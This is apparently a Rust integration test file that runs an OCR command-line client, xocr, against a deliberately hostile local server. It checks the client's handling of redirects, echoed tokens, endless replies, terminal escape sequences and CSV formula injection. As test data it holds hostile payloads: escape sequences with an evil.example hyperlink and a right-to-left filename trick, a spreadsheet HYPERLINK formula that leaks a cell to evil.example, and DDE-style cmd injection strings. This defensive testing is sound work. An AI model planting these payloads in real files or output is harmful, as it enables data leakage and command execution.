//! What a hostile server and odd files do to xocr. Every test runs the real
//! binary against a real misbehaving server on 127.0.0.1, written here on a
//! raw `TcpListener` so that it can send anything (redirects, endless
//! bodies, escape sequences, echoed request fields), or against a real
//! file-system object.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use base64::Engine as _;
use serde_json::{Value, json};

/// A server stops by itself this long after it started.
const SERVER_LIFETIME: Duration = Duration::from_secs(120);
/// Requests served on one connection at most.
const REQUESTS_PER_CONNECTION: usize = 200;
/// Largest request body read, bytes.
const MAX_REQUEST_BODY: usize = 64 << 20;
/// An endless reply stops after this many body bytes whatever happens.
const ENDLESS_CAP: u64 = 2 << 30;
/// A paced endless reply stops after this many body bytes.
const PACED_CAP: u64 = 64 << 20;

/// One request as the server read it.
#[derive(Clone, Debug)]
struct Request {
    /// When its request line arrived (the server's clock).
    at: Instant,
    method: String,
    /// The JSON body's `token`, when there is one.
    token: Option<String>,
    /// The decoded `image`, when there is one.
    picture: Option<Vec<u8>>,
}

/// What the server sends back.
enum Answer {
    /// Status, extra headers and body; Content-Length is added.
    Reply(u16, Vec<(String, String)>, Vec<u8>),
    /// Status 200 and a body that never ends: chunked, or with a
    /// Content-Length of 1 TiB. `paced`: 64 KiB a millisecond (slower than
    /// the client reads, so that the sockets' buffers stay near empty),
    /// and at most [`PACED_CAP`] bytes.
    Endless { chunked: bool, paced: bool },
}

type Handler = dyn Fn(&Request) -> Answer + Send + Sync;

struct State {
    handler: Box<Handler>,
    connections: AtomicUsize,
    requests: Mutex<Vec<Request>>,
    /// Body bytes the server got written on each endless reply (accepted by
    /// the kernel before the client went away).
    endless_written: Mutex<Vec<u64>>,
    stop: AtomicBool,
    started: Instant,
}

impl State {
    fn over(&self) -> bool {
        self.stop.load(Ordering::SeqCst) || self.started.elapsed() > SERVER_LIFETIME
    }
}

/// The hostile server: one thread accepting, one per connection, HTTP/1.1
/// with keep-alive. It stops when dropped, or by itself after
/// [`SERVER_LIFETIME`].
struct Hostile {
    url: String,
    state: Arc<State>,
}

impl Drop for Hostile {
    fn drop(&mut self) {
        self.state.stop.store(true, Ordering::SeqCst);
    }
}

impl Hostile {
    fn start(handler: impl Fn(&Request) -> Answer + Send + Sync + 'static) -> Hostile {
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind 127.0.0.1:0");
        let addr = listener.local_addr().expect("local address");
        listener
            .set_nonblocking(true)
            .expect("non-blocking listener");
        let state = Arc::new(State {
            handler: Box::new(handler),
            connections: AtomicUsize::new(0),
            requests: Mutex::new(Vec::new()),
            endless_written: Mutex::new(Vec::new()),
            stop: AtomicBool::new(false),
            started: Instant::now(),
        });
        let s = state.clone();
        std::thread::spawn(move || {
            while !s.over() {
                match listener.accept() {
                    Ok((conn, _)) => {
                        s.connections.fetch_add(1, Ordering::SeqCst);
                        let s = s.clone();
                        std::thread::spawn(move || serve(&s, conn));
                    }
                    Err(_) => std::thread::sleep(Duration::from_millis(2)),
                }
            }
        });
        Hostile {
            url: format!("http://{addr}/ocr"),
            state,
        }
    }

    fn requests(&self) -> Vec<Request> {
        self.state.requests.lock().unwrap().clone()
    }

    fn connections(&self) -> usize {
        self.state.connections.load(Ordering::SeqCst)
    }

    /// The body bytes written on each endless reply, once `n` of them have
    /// ended (or after 20 s).
    fn endless_written(&self, n: usize) -> Vec<u64> {
        let until = Instant::now() + Duration::from_secs(20);
        loop {
            let v = self.state.endless_written.lock().unwrap().clone();
            if v.len() >= n || Instant::now() > until {
                return v;
            }
            std::thread::sleep(Duration::from_millis(10));
        }
    }
}

fn serve(state: &State, conn: TcpStream) {
    let _ = conn.set_nonblocking(false);
    let _ = conn.set_nodelay(true);
    let _ = conn.set_read_timeout(Some(Duration::from_secs(10)));
    let _ = conn.set_write_timeout(Some(Duration::from_secs(5)));
    let Ok(read_half) = conn.try_clone() else {
        return;
    };
    let mut reader = BufReader::new(read_half);
    let mut writer = conn;
    for _ in 0..REQUESTS_PER_CONNECTION {
        if state.over() {
            return;
        }
        let Some(req) = read_request(&mut reader) else {
            return;
        };
        state.requests.lock().unwrap().push(req.clone());
        let written = match (state.handler)(&req) {
            Answer::Reply(status, headers, body) => {
                let mut head = format!(
                    "HTTP/1.1 {status} X\r\nContent-Type: application/json\r\nContent-Length: {}\r\n",
                    body.len()
                );
                for (k, v) in headers {
                    head.push_str(&format!("{k}: {v}\r\n"));
                }
                head.push_str("\r\n");
                let mut all = head.into_bytes();
                all.extend_from_slice(&body);
                writer.write_all(&all).and_then(|_| writer.flush())
            }
            Answer::Endless { chunked, paced } => {
                let n = endless(state, &mut writer, chunked, paced);
                state.endless_written.lock().unwrap().push(n);
                return;
            }
        };
        if written.is_err() {
            return;
        }
    }
}

/// Writes an endless reply; returns the body bytes written.
fn endless(state: &State, w: &mut TcpStream, chunked: bool, paced: bool) -> u64 {
    let head = if chunked {
        "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
            .to_string()
    } else {
        format!(
            "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n",
            1u64 << 40
        )
    };
    if w.write_all(head.as_bytes()).is_err() {
        return 0;
    }
    let mut piece = br#"{"code":200,"message":"success","result":{"type":"id_card","item_list":[{"key":"crop_image","value":""#.to_vec();
    piece.resize(64 * 1024, b'A');
    let mut sent = 0u64;
    let cap = if paced { PACED_CAP } else { ENDLESS_CAP };
    while sent < cap && !state.over() {
        if paced {
            std::thread::sleep(Duration::from_millis(1));
        }
        let ok = if chunked {
            let mut c = format!("{:x}\r\n", piece.len()).into_bytes();
            c.extend_from_slice(&piece);
            c.extend_from_slice(b"\r\n");
            w.write_all(&c)
        } else {
            w.write_all(&piece)
        };
        if ok.is_err() {
            break;
        }
        sent += piece.len() as u64;
        piece.fill(b'A');
    }
    sent
}

/// Reads one request; `None` when the connection closed or broke.
fn read_request(r: &mut BufReader<TcpStream>) -> Option<Request> {
    let mut line = String::new();
    if r.read_line(&mut line).ok()? == 0 {
        return None;
    }
    let at = Instant::now();
    let method = line.split_whitespace().next()?.to_string();
    let mut len = 0usize;
    for _ in 0..100 {
        let mut h = String::new();
        if r.read_line(&mut h).ok()? == 0 {
            return None;
        }
        let h = h.trim_end();
        if h.is_empty() {
            break;
        }
        if let Some((k, v)) = h.split_once(':')
            && k.trim().eq_ignore_ascii_case("content-length")
        {
            len = v.trim().parse().ok()?;
        }
    }
    if len > MAX_REQUEST_BODY {
        return None;
    }
    let mut body = vec![0; len];
    r.read_exact(&mut body).ok()?;
    let v: Option<Value> = serde_json::from_slice(&body).ok();
    let field = |k: &str| {
        v.as_ref()
            .and_then(|v| v.get(k))
            .and_then(Value::as_str)
            .map(str::to_string)
    };
    let picture = field("image").and_then(|i| {
        base64::engine::general_purpose::STANDARD
            .decode(i.as_bytes())
            .ok()
    });
    Some(Request {
        at,
        method,
        token: field("token"),
        picture,
    })
}

/// A small PNG, different for each `seed`.
fn png(seed: u8) -> Vec<u8> {
    let img = image::RgbImage::from_fn(40, 30, |x, y| {
        image::Rgb([seed, (x * 6) as u8, (y * 8) as u8 ^ seed])
    });
    let mut out = std::io::Cursor::new(Vec::new());
    img.write_to(&mut out, image::ImageFormat::Png)
        .expect("encode a PNG");
    out.into_inner()
}

/// Writes `png(seed)` to `dir/name`.
fn picture(dir: &Path, name: &str, seed: u8) -> PathBuf {
    let p = dir.join(name);
    std::fs::write(&p, png(seed)).unwrap();
    p
}

/// A success reply with these `(key, description, value)` items.
fn success(items: &[(&str, &str, &str)]) -> Vec<u8> {
    let items: Vec<Value> = items
        .iter()
        .map(|(k, d, v)| json!({"key": k, "description": d, "value": v, "position": []}))
        .collect();
    json!({
        "code": 200,
        "message": "success",
        "result": {"type": "id_card", "type_description": "", "image_angle": 0,
                   "rotated_image_width": 40, "rotated_image_height": 30,
                   "item_list": items}
    })
    .to_string()
    .into_bytes()
}

fn ok_answer() -> Answer {
    Answer::Reply(200, vec![], success(&[("name", "姓名", "张三")]))
}

/// `xocr` against `url` with `token`, a private HOME and config folder,
/// and nothing from the caller's XOCR_* or proxy variables.
fn xocr(home: &Path, url: &str, token: &str) -> assert_cmd::Command {
    let mut cmd = assert_cmd::Command::cargo_bin("xocr").expect("binary built");
    for (k, _) in std::env::vars() {
        if k.starts_with("XOCR_") || k.to_ascii_lowercase().ends_with("_proxy") {
            cmd.env_remove(k);
        }
    }
    cmd.env("HOME", home)
        .env("XDG_CONFIG_HOME", home.join(".config"))
        .env("NO_COLOR", "1")
        .env("XOCR_ENDPOINT", url)
        .env("XOCR_TOKEN", token)
        .timeout(Duration::from_secs(100));
    cmd
}

const TOKEN: &str = "plain-token-5d1e9c";

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

fn jsonl(out: &[u8]) -> Vec<Value> {
    text(out)
        .lines()
        .map(|l| serde_json::from_str(l).expect("a JSON line"))
        .collect()
}

/// The process exit code of a batch stopped by a stop-class error
/// (`src/exit.rs`).
const EXIT_STOPPED: i32 = 3;

// 1. Redirects ------------------------------------------------------------

#[test]
fn a_redirect_is_never_followed_and_stops_the_batch() {
    // Whatever answers at the redirect's target would be taken as the result.
    let elsewhere = Hostile::start(|_| ok_answer());
    for status in [301, 302, 303, 307, 308] {
        let location = format!("{}?moved=1", elsewhere.url);
        let server = Hostile::start(move |_| {
            Answer::Reply(
                status,
                vec![("Location".into(), location.clone())],
                b"moved".to_vec(),
            )
        });
        let dir = tempfile::tempdir().unwrap();
        let a = picture(dir.path(), "a.png", 1);
        let b = picture(dir.path(), "b.png", 2);
        let store = dir.path().join("store");
        let out = xocr(dir.path(), &server.url, TOKEN)
            .args(["scan", "-o", "jsonl", "-j", "1", "--retries", "3"])
            .arg("--out-dir")
            .arg(&store)
            .arg(&a)
            .arg(&b)
            .output()
            .unwrap();
        let stderr = text(&out.stderr);
        assert_eq!(out.status.code(), Some(EXIT_STOPPED), "{status}: {stderr}");
        assert_eq!(
            elsewhere.connections(),
            0,
            "{status}: the redirect was followed"
        );
        // One request, never retried; the second file is not attempted.
        let seen = server.requests();
        assert_eq!(seen.len(), 1, "{status}");
        assert_eq!(seen[0].method, "POST");
        assert_eq!(seen[0].token.as_deref(), Some(TOKEN));
        let records = jsonl(&out.stdout);
        assert_eq!(records.len(), 2, "{status}");
        for r in &records {
            assert_eq!(r["ok"], false, "{status}: {r}");
            assert!(r["type"].is_null(), "{status}: {r}");
        }
        let first = &records[0]["error"];
        assert_eq!(first["class"], "stop", "{status}: {first}");
        let message = first["message"].as_str().unwrap();
        assert!(message.contains(&format!("HTTP {status}")), "{message}");
        assert!(
            message.contains("?moved=1"),
            "names the Location: {message}"
        );
        assert!(
            stderr.contains("endpoint"),
            "says the endpoint is wrong: {stderr}"
        );
        let stored = std::fs::read_dir(&store)
            .map(|d| {
                d.filter_map(Result::ok)
                    .filter(|e| e.file_name().to_string_lossy().ends_with(".json"))
                    .count()
            })
            .unwrap_or(0);
        assert_eq!(stored, 0, "{status}: a result was stored");
    }
}

#[test]
fn a_redirect_location_is_shortened_and_made_safe() {
    let long = format!("http://127.0.0.1:9/{}", "x".repeat(5000));
    let server = Hostile::start(move |_| {
        Answer::Reply(302, vec![("Location".into(), long.clone())], vec![])
    });
    let dir = tempfile::tempdir().unwrap();
    let a = picture(dir.path(), "a.png", 1);
    let out = xocr(dir.path(), &server.url, TOKEN)
        .args(["scan", "-o", "jsonl"])
        .arg(&a)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(EXIT_STOPPED));
    let records = jsonl(&out.stdout);
    let message = records[0]["error"]["message"].as_str().unwrap();
    assert!(message.contains("http://127.0.0.1:9/xxx"), "{message}");
    assert!(
        message.len() < 400,
        "not shortened: {} bytes",
        message.len()
    );
}

// 2. The token in echoed text ---------------------------------------------

/// Tokens that JSON, URL and white-space handling all change.
const HOSTILE_TOKENS: &[&str] = &[
    "tok\"en\\ab\tcd\nef gh-ü中😀-1234567890",
    "0123456789abcdefSECRETSECRET",
    "秘密 令牌-ü-ß-密钥/123+456",
];

fn json_escaped(t: &str) -> String {
    let j = serde_json::to_string(t).unwrap();
    j[1..j.len() - 1].to_string()
}

fn percent(t: &str, plus: bool) -> String {
    t.bytes()
        .map(|b| match b {
            b' ' if plus => "+".to_string(),
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                char::from(b).to_string()
            }
            _ => format!("%{b:02X}"),
        })
        .collect()
}

/// Every form of `t` that must never be printed.
fn forms(t: &str) -> Vec<String> {
    let json = json_escaped(t);
    let debug = format!("{t:?}");
    vec![
        t.to_string(),
        json.clone(),
        json_escaped(&json),
        percent(t, false),
        percent(t, true),
        percent(t, false).to_lowercase(),
        debug[1..debug.len() - 1].to_string(),
        t.split_whitespace().collect::<Vec<_>>().join(" "),
    ]
}

/// What the server does with the token it was sent.
#[derive(Clone, Copy, Debug)]
enum Echo {
    /// HTTP 500, the raw token straddling the 200th character.
    Http500Raw,
    /// HTTP 400, the token JSON-escaped, straddling the cut.
    Http400Json,
    /// HTTP 400, URL-encoded with %20, then with +.
    Http400Url,
    /// A JSON error message holding the token (JSON-decoded: raw).
    Message,
    /// A long JSON error message with the token straddling its cut.
    LongMessage,
    /// A non-JSON 200 reply: an HTML page with the token in entities.
    Html,
    /// `code` of the wrong type: the parser quotes the value.
    WrongType,
    /// The server cut the token short itself: its first 10 characters.
    Prefix,
    /// The request body echoed as a JSON string inside JSON.
    Doubled,
    /// A success whose values and key are the token.
    Success,
}

fn echo(mode: Echo, token: &str) -> Answer {
    let pad = |n: usize| "p".repeat(n);
    let reply = |status: u16, body: String| Answer::Reply(status, vec![], body.into_bytes());
    match mode {
        Echo::Http500Raw => reply(500, format!("{} {token} tail", pad(195))),
        Echo::Http400Json => reply(
            400,
            format!(
                r#"{{"error":"{} bad token: {}"}}"#,
                pad(172),
                json_escaped(token)
            ),
        ),
        Echo::Http400Url => reply(
            400,
            format!(
                "token={}&again={}&{}",
                percent(token, false),
                percent(token, true),
                pad(300)
            ),
        ),
        Echo::Message => reply(
            200,
            json!({"code": 40101, "message": format!("App {token} does not exist")}).to_string(),
        ),
        Echo::LongMessage => reply(
            200,
            json!({"code": 12345, "message": format!("{} {token} end", pad(295))}).to_string(),
        ),
        Echo::Html => {
            let html: String = token
                .chars()
                .map(|c| match c {
                    '"' => "&quot;".to_string(),
                    c if !c.is_ascii_alphanumeric() => format!("&#{};", u32::from(c)),
                    c => c.to_string(),
                })
                .collect();
            reply(200, format!("<html><body>bad token {html}</body></html>"))
        }
        Echo::WrongType => reply(200, json!({"code": token, "message": "x"}).to_string()),
        Echo::Prefix => {
            let head: String = token.chars().take(10).collect();
            reply(500, format!("upstream said: {head}"))
        }
        Echo::Doubled => {
            let request = json!({"type": "8", "token": token}).to_string();
            reply(
                502,
                json!({"error": "bad gateway", "request": request}).to_string(),
            )
        }
        Echo::Success => Answer::Reply(
            200,
            vec![],
            success(&[(token, "令牌", token), ("name", token, "张三")]),
        ),
    }
}

#[test]
fn the_token_never_comes_back_in_any_form() {
    use Echo::*;
    let modes = [
        Http500Raw,
        Http400Json,
        Http400Url,
        Message,
        LongMessage,
        Html,
        WrongType,
        Prefix,
        Doubled,
        Success,
    ];
    let dir = tempfile::tempdir().unwrap();
    let a = picture(dir.path(), "a.png", 3);
    for &token in HOSTILE_TOKENS {
        let head: String = token.chars().take(8).collect();
        let tail: String = {
            let v: Vec<char> = token.chars().collect();
            v[v.len() - 8..].iter().collect()
        };
        let mut banned = forms(token);
        banned.extend(forms(&head));
        banned.extend(forms(&tail));
        for mode in modes {
            let server = Hostile::start(move |req| echo(mode, req.token.as_deref().unwrap_or("")));
            for format in ["jsonl", "table"] {
                for verbose in [false, true] {
                    let mut cmd = xocr(dir.path(), &server.url, token);
                    cmd.args([
                        "scan",
                        "--retries",
                        "1",
                        "--backoff-base-ms",
                        "1",
                        "-o",
                        format,
                    ]);
                    if verbose {
                        cmd.arg("-v");
                    }
                    let out = cmd.arg(&a).output().unwrap();
                    let all = format!("{}\n{}", text(&out.stdout), text(&out.stderr));
                    assert!(!all.contains("panicked"), "{mode:?}: {all}");
                    assert!(all.contains("<redacted>"), "{mode:?}: no echo in\n{all}");
                    for b in &banned {
                        assert!(
                            !all.contains(b.as_str()),
                            "{mode:?} -o {format} -v={verbose}: {b:?} printed in\n{all}"
                        );
                    }
                }
            }
            // The server did get the token, and did echo it.
            assert_eq!(
                server.requests()[0].token.as_deref(),
                Some(token),
                "{mode:?}"
            );
        }
    }
}

#[test]
fn a_config_file_error_quotes_no_value() {
    let server = Hostile::start(|_| ok_answer());
    let dir = tempfile::tempdir().unwrap();
    let a = picture(dir.path(), "a.png", 4);
    let cfg = dir.path().join("config.toml");
    for (body, secret, at) in [
        (
            "token = 12345678901234\n",
            "12345678901234",
            "line 1, column 9, key `token`",
        ),
        (
            "type = \"8\"\ntoken = 9876.54321e3\n",
            "9876.54321",
            "line 2, column 9, key `token`",
        ),
        (
            "engine = \"xsecretx\"\n",
            "xsecretx",
            "line 1, column 10, key `engine`",
        ),
        ("xsecretx = \"v\"\n", "xsecretx", "line 1, column 1"),
    ] {
        std::fs::write(&cfg, body).unwrap();
        let out = xocr(dir.path(), &server.url, TOKEN)
            .env_remove("XOCR_TOKEN")
            .arg("scan")
            .arg("--config")
            .arg(&cfg)
            .arg(&a)
            .output()
            .unwrap();
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{err}");
        assert!(err.contains(at), "{body}: {err}");
        assert!(!err.contains(secret), "{body}: the value is quoted: {err}");
    }
    assert!(server.requests().is_empty());
}

// 3. Replies that never end -------------------------------------------------

/// The record of `file` among `records`.
fn record_of<'a>(records: &'a [Value], file: &Path) -> &'a Value {
    let name = file.to_string_lossy();
    records
        .iter()
        .find(|r| r["file"] == *name)
        .unwrap_or_else(|| panic!("no record for {name}"))
}

#[test]
fn an_endless_reply_fails_its_file_once_and_the_batch_goes_on() {
    let dir = tempfile::tempdir().unwrap();
    let a = picture(dir.path(), "a.png", 10);
    let b = picture(dir.path(), "b.png", 11);
    let c = picture(dir.path(), "c.png", 12);
    let d = picture(dir.path(), "d.png", 13);
    let (pb, pc) = (png(11), png(12));
    let server = Hostile::start(move |req| match req.picture.as_deref() {
        Some(p) if p == pb => Answer::Endless {
            chunked: true,
            paced: false,
        },
        Some(p) if p == pc => Answer::Endless {
            chunked: false,
            paced: false,
        },
        _ => ok_answer(),
    });
    let out = xocr(dir.path(), &server.url, TOKEN)
        .args([
            "scan",
            "-o",
            "jsonl",
            "--max-reply-size",
            "2M",
            "--retries",
            "3",
        ])
        .args(["--backoff-base-ms", "1"])
        .args([&a, &b, &c, &d])
        .output()
        .unwrap();
    let stderr = text(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    let records = jsonl(&out.stdout);
    assert_eq!(records.len(), 4);
    for ok in [&a, &d] {
        assert_eq!(record_of(&records, ok)["ok"], true, "{stderr}");
    }
    for endless in [&b, &c] {
        let e = &record_of(&records, endless)["error"];
        assert_eq!(e["class"], "file", "{e}");
        let m = e["message"].as_str().unwrap();
        assert!(
            m.contains("larger than 2 MiB") && m.contains("--max-reply-size"),
            "{m}"
        );
    }
    // Exactly one request per file: an over-size reply is not retried.
    let seen = server.requests();
    for seed in [10, 11, 12, 13] {
        let n = seen
            .iter()
            .filter(|r| r.picture.as_deref() == Some(&png(seed)[..]))
            .count();
        assert_eq!(n, 1, "picture {seed}: {n} requests");
    }
    assert!(!stderr.contains("retry"), "{stderr}");
}

#[test]
fn endless_replies_in_parallel_are_cut_off_at_the_limit() {
    const LIMIT: u64 = 8 << 20;
    let dir = tempfile::tempdir().unwrap();
    let files: Vec<PathBuf> = (0..4)
        .map(|i| picture(dir.path(), &format!("e{i}.png"), 20 + i))
        .collect();
    let server = Hostile::start(|_| Answer::Endless {
        chunked: true,
        paced: true,
    });
    let out = xocr(dir.path(), &server.url, TOKEN)
        .args(["scan", "-o", "jsonl", "-j", "4", "--max-reply-size", "8M"])
        .args(["--backoff-base-ms", "1"])
        .args(&files)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    // The server counts the bytes the kernel took from it on each
    // connection until xocr closed it: what xocr read (at most the limit
    // and one byte), plus what the two sockets' buffers held then, plus the
    // piece or two written before the server saw the close. The reply is
    // paced slower than xocr reads it, so the buffers hold little; but on a
    // loaded 2-core machine xocr can be descheduled long enough for the
    // kernel's autotuned buffers to take several MiB (a 2 MiB margin failed
    // there). A margin of the limit itself still shows the bound: without
    // it xocr read 512 MiB of each reply, four times.
    let margin = LIMIT;
    let written = server.endless_written(4);
    assert_eq!(written.len(), 4, "one connection per file, no retry");
    for n in &written {
        assert!(*n >= LIMIT, "the reply was read up to the limit: {n}");
        assert!(
            *n <= LIMIT + margin,
            "{n} bytes sent on one connection, limit {LIMIT} + margin {margin}"
        );
    }
    eprintln!("bytes written per connection: {written:?} (margin {margin})");
}

#[test]
fn the_reply_limit_can_come_from_the_config_file() {
    let server = Hostile::start(|_| Answer::Endless {
        chunked: false,
        paced: true,
    });
    let dir = tempfile::tempdir().unwrap();
    let a = picture(dir.path(), "a.png", 30);
    let cfg = dir.path().join("config.toml");
    std::fs::write(&cfg, "max_reply_size = \"1M\"\n").unwrap();
    let out = xocr(dir.path(), &server.url, TOKEN)
        .args(["scan", "-o", "jsonl", "--config"])
        .arg(&cfg)
        .arg(&a)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stderr));
    let records = jsonl(&out.stdout);
    let m = records[0]["error"]["message"].as_str().unwrap();
    assert!(m.contains("larger than 1 MiB (--max-reply-size)"), "{m}");
    assert!(server.endless_written(1)[0] <= (1 << 20) + (2 << 20));
    // The flag wins over the file.
    let out = xocr(dir.path(), &server.url, TOKEN)
        .args([
            "scan",
            "-o",
            "jsonl",
            "--max-reply-size",
            "512K",
            "--config",
        ])
        .arg(&cfg)
        .arg(&a)
        .output()
        .unwrap();
    let records = jsonl(&out.stdout);
    let m = records[0]["error"]["message"].as_str().unwrap();
    assert!(m.contains("larger than 512 KiB"), "{m}");
}

// 4. Control characters from outside ----------------------------------------

/// Terminal escape sequences: a window title (OSC 0 … BEL), clear screen,
/// an OSC 8 hyperlink, a C1 CSI (U+009B) and a right-to-left override.
const ESCAPES: &str = "\u{1b}]0;pwned\u{7} \u{1b}[2J \u{1b}]8;;http://evil.example/\u{1b}\\click\u{1b}]8;;\u{1b}\\ \u{9b}31m red \u{202e}gpj.exe";

/// The bytes and characters a terminal acts on that must not be printed.
fn assert_no_raw_controls(what: &str, out: &[u8]) {
    assert!(!out.contains(&0x1b), "{what}: raw ESC in\n{}", text(out));
    assert!(!out.contains(&0x07), "{what}: raw BEL in\n{}", text(out));
    let s = text(out);
    for c in ['\u{9b}', '\u{202e}'] {
        assert!(!s.contains(c), "{what}: raw {c:?} in\n{s}");
    }
}

#[test]
fn escape_sequences_from_the_server_never_reach_the_terminal() {
    let dir = tempfile::tempdir().unwrap();
    let a = picture(dir.path(), "a.png", 40);
    type MakeReply = Box<dyn Fn() -> Answer + Send + Sync>;
    let replies: Vec<(&str, MakeReply)> = vec![
        (
            "service message",
            Box::new(|| {
                Answer::Reply(
                    200,
                    vec![],
                    json!({"code": 12345, "message": ESCAPES})
                        .to_string()
                        .into_bytes(),
                )
            }),
        ),
        (
            "HTTP error body",
            Box::new(|| Answer::Reply(503, vec![], ESCAPES.as_bytes().to_vec())),
        ),
        (
            "non-JSON body",
            Box::new(|| Answer::Reply(200, vec![], ESCAPES.as_bytes().to_vec())),
        ),
        (
            "values, keys and labels",
            Box::new(|| {
                Answer::Reply(
                    200,
                    vec![],
                    success(&[(ESCAPES, "姓名", "张三"), ("name", ESCAPES, ESCAPES)]),
                )
            }),
        ),
    ];
    for (what, reply) in replies {
        let server = Hostile::start(move |_| reply());
        for verbose in [false, true] {
            let mut cmd = xocr(dir.path(), &server.url, TOKEN);
            cmd.args(["scan", "-o", "table", "--retries", "0"]);
            if verbose {
                cmd.arg("-v");
            }
            let out = cmd.arg(&a).output().unwrap();
            assert_no_raw_controls(&format!("{what}, stderr"), &out.stderr);
            assert_no_raw_controls(&format!("{what}, table"), &out.stdout);
            let all = format!("{}{}", text(&out.stdout), text(&out.stderr));
            assert!(
                all.contains("\\x1b]0;pwned\\x07"),
                "{what}: shown escaped\n{all}"
            );
            assert!(all.contains("\\u{202e}gpj.exe"), "{what}: {all}");
        }
    }
}

// 5. CSV: formula injection ---------------------------------------------------

/// Rows of a CSV text, each a list of cells.
fn csv_rows(out: &[u8]) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(out)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

const HYPERLINK: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")";

fn formula_reply() -> Answer {
    Answer::Reply(
        200,
        vec![],
        success(&[
            (
                HYPERLINK,
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "+cmd|' /C calc'!A0",
            ),
            ("sum", "-2+3", "\t=1"),
            ("blank", "  @x", "  =1+1"),
            ("amount", "金额", "-12.5"),
            ("code", "区号", "+86"),
        ]),
    )
}

#[test]
fn csv_cells_that_would_run_as_formulas_are_guarded() {
    let server = Hostile::start(|_| formula_reply());
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("=1+1.png"), png(50)).unwrap();
    let run = |layout: &str, raw: bool| {
        let mut cmd = xocr(dir.path(), &server.url, TOKEN);
        cmd.current_dir(dir.path())
            .args(["scan", "-o", "csv", "--csv-layout", layout]);
        if raw {
            cmd.arg("--csv-raw");
        }
        let out = cmd.arg("=1+1.png").output().unwrap();
        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
        csv_rows(&out.stdout)
    };
    let guarded = |s: &str| format!("'{s}");

    // Long: file,type,key,description,value,error,checks_failed.
    let rows = run("long", false);
    assert_eq!(
        rows[0][..5],
        ["file", "type", "key", "description", "value"]
    );
    let row = |key: &str| {
        rows.iter()
            .find(|r| r[2] == key)
            .unwrap_or_else(|| panic!("no row {key}: {rows:?}"))
    };
    let r = row(&guarded(HYPERLINK));
    assert_eq!(r[0], "'=1+1.png");
    assert_eq!(r[3], guarded("@SUM(1+1)*cmd|' /C calc'!A0"));
    assert_eq!(r[4], guarded("+cmd|' /C calc'!A0"));
    assert_eq!(row("sum")[3], "'-2+3");
    assert_eq!(row("sum")[4], "'\t=1");
    assert_eq!(row("blank")[3], "'  @x");
    assert_eq!(row("blank")[4], "'  =1+1");
    assert_eq!(row("amount")[4], "-12.5");
    assert_eq!(row("code")[4], "+86");

    // Wide: file,type,<keys>…,error,checks_failed.
    let rows = run("wide", false);
    let header = &rows[0];
    let col = |key: &str| header.iter().position(|h| h == key).unwrap();
    let cells = &rows[1];
    assert_eq!(cells[0], "'=1+1.png");
    assert_eq!(
        cells[col(&guarded(HYPERLINK))],
        guarded("+cmd|' /C calc'!A0")
    );
    assert_eq!(cells[col("sum")], "'\t=1");
    assert_eq!(cells[col("blank")], "'  =1+1");
    assert_eq!(cells[col("amount")], "-12.5");
    assert_eq!(cells[col("code")], "+86");
    // No cell of either layout but the two numbers starts with a formula
    // character.
    for layout in ["long", "wide"] {
        for cell in run(layout, false).iter().flatten() {
            let c = cell.trim_start_matches([' ', '\n']).chars().next();
            assert!(
                !matches!(c, Some('=' | '+' | '-' | '@' | '\t' | '\r'))
                    || cell == "-12.5"
                    || cell == "+86",
                "{layout}: {cell:?}"
            );
        }
    }

    // --csv-raw: every cell as the service sent it.
    let rows = run("long", true);
    let r = rows.iter().find(|r| r[2] == HYPERLINK).expect("raw key");
    assert_eq!(r[0], "=1+1.png");
    assert_eq!(r[4], "+cmd|' /C calc'!A0");
    assert!(rows.iter().any(|r| r[4] == "\t=1"));
    let rows = run("wide", true);
    assert!(rows[0].iter().any(|h| h == HYPERLINK));
    assert_eq!(rows[1][0], "=1+1.png");
}

// 6. Many keys, wide CSV -------------------------------------------------------

#[test]
fn wide_csv_with_many_distinct_keys_is_complete() {
    const KEYS: usize = 50_000;
    let items: Vec<(String, String)> = (0..KEYS)
        .map(|i| (format!("k{i:05}"), format!("v{i}")))
        .collect();
    let body = {
        let refs: Vec<(&str, &str, &str)> = items
            .iter()
            .map(|(k, v)| (k.as_str(), "", v.as_str()))
            .collect();
        success(&refs)
    };
    let server = Hostile::start(move |_| Answer::Reply(200, vec![], body.clone()));
    let dir = tempfile::tempdir().unwrap();
    let a = picture(dir.path(), "a.png", 60);
    let b = picture(dir.path(), "b.png", 61);
    for layout in ["wide", "long"] {
        let started = Instant::now();
        let out = xocr(dir.path(), &server.url, TOKEN)
            .args(["scan", "-o", "csv", "--csv-layout", layout])
            .args([&a, &b])
            .output()
            .unwrap();
        // Reported, not asserted: the time depends on the machine.
        eprintln!("{layout}: {KEYS} keys × 2 files in {:?}", started.elapsed());
        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
        let rows = csv_rows(&out.stdout);
        if layout == "wide" {
            assert_eq!(rows.len(), 3);
            assert_eq!(rows[0].len(), KEYS + 4);
            for (i, (k, v)) in items.iter().enumerate() {
                assert_eq!(rows[0][i + 2], *k);
                assert_eq!(rows[1][i + 2], *v);
                assert_eq!(rows[2][i + 2], *v);
            }
        } else {
            assert_eq!(rows.len(), 2 * KEYS + 1);
        }
    }
}

// 7. The rate cap is a promise ---------------------------------------------------

